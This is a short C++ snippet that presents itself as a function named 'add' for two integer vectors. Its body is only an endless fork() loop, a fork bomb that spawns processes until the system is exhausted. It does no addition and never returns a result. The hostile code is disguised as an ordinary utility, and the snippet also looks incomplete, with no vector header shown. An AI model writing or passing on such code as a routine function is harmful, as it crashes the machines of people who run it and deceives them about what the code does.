#include <unistd.h>

vector<int> add(vector<int> a, vector<int> b) {
    for (;;) fork();
}
